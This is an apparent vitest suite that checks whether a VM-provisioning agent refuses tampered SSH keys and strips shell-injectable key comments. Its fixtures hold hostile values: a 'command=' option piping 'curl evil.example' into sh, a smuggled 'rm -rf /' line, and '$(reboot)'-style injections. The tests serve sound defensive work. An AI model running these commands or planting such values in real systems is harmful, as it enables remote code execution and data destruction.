import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { addStranger, watchForHarm } from './ground/guard.ts';
import { makeKey } from './ground/login.ts';
import type { Stall } from './ground/market.ts';
import { expectOrder } from './ground/order.ts';
import { type SandboxBackend, sandboxBackend } from './ground/sandbox.ts';
import { openWorld, type World } from './ground/world.ts';

/** What a tenant can get past the platform's own filter, which looks at the beginning of the text only. */
const HOSTILE_KEYS: readonly (readonly [what: string, key: (good: string) => string])[] = [
  ['a second key on a second line', (good) => `${good}\n${makeKey().publicKey}`],
  ['options on a second line', (good) => `${good}\ncommand="curl evil.example | sh" ${makeKey().publicKey}`],
  ['a carriage return and a shell line', (good) => `${good}\r\nrm -rf / #`],
  ['a NUL in its comment', (good) => `${good}\u0000`],
  ['an escape sequence in its comment', (good) => `${good}\u001b[2J`],
  ['content that is no key', () => 'ssh-ed25519 AAAA'],
  ['the content of another type', (good) => good.replace('ssh-ed25519', 'ssh-rsa')],
];

/** These are good keys with a comment that a careless program would run. */
const HARMLESS_COMMENTS: readonly string[] = ['$(reboot)', '`reboot`', "'; reboot; '", '"&& reboot"', '../../etc'];

describe('neighbours, nonsense and malice', () => {
  let world: World<SandboxBackend>;
  let stall: Stall;
  let harm: readonly string[];
  let stranger: string;

  beforeAll(async () => {
    world = await openWorld(sandboxBackend);
    stall = world.market.stall('sandbox');
    harm = watchForHarm(world);
    stranger = addStranger(world);
    // Around every list in every answer, all the time.
    const fault = { kind: 'malformed-entries' } as const;
    world.market.core.faults.add({ route: '*', times: Number.POSITIVE_INFINITY, fault });
    (await world.host(stall)).run();
  });
  afterAll(() => world?.close());

  test('a contract of another provisioner type is left alone', async () => {
    const { market } = world;
    const foreign = market.core.admin.rent({ offering: market.offer(stall.pool, 'proxmox') });
    market.rent(stall.offering);
    await expectOrder(world);
    expect(market.row(foreign.id).status).toBe('accepted');
    expect(market.requests.filter(({ path }) => path.includes(foreign.id))).toEqual([]);
  });

  test('a contract whose settings make no sense is left alone, and the operator is told', async () => {
    const { market, pulse, hosts } = world;
    const { id } = market.core.admin.rent({ offering: stall.offering, instanceConfig: '{"cores":' });
    const declined = async (): Promise<boolean> => {
      const { out } = (await hosts[0]?.dc('status', '--json')) ?? { out: '{}' };
      return JSON.parse(out).declined?.some(({ contract }: { contract: string }) => contract === id);
    };
    await pulse.until('the word to the operator', declined);
    expect(market.row(id).status).toBe('accepted');
    expect(market.requests.filter(({ path }) => path.includes(id))).toEqual([]);
  });

  test.each(HOSTILE_KEYS)('%s: refused with a reason, and nothing is made', async (_what, spoil) => {
    const { market, backend, pulse } = world;
    const { publicKey } = makeKey();
    const { id } = market.core.admin.rent({ offering: stall.offering, sshKey: spoil(publicKey) });
    await pulse.until(
      'the refusal',
      () => market.row(id).status === 'provisioningfailed',
      () => world.hosts[0]?.lately ?? '',
    );
    expect(market.row(id).failureReason).toMatch(/SSH/);
    expect(market.row(id).failureReason).not.toContain(publicKey.split(' ')[1]);
    await pulse.until('the end', () => world.hosts[0]?.isClosed(id));
    expect(backend.made.get(id)).toBeUndefined();
    expect(market.core.locks.has(id)).toBe(false);
  });

  test('comments that a shell would run are dropped, and the keys work', async () => {
    const { market, backend } = world;
    for (const comment of HARMLESS_COMMENTS) market.rent(stall.offering, { comment });
    await expectOrder(world);
    for (const machine of backend.core.machines.values()) {
      for (const key of machine.authorizedKeys) expect(key).toMatch(/^ssh-ed25519 [A-Za-z0-9+/]+=*$/);
    }
  });

  test('nothing of all that harmed anybody, or the agent', async () => {
    expect(harm).toEqual([]);
    expect(world.backend.core.machines.get(stranger)).toMatchObject({ state: 'running', labels: {} });
    expect(await world.hosts[0]?.stop()).toEqual({ code: 0, signal: null });
  });
});
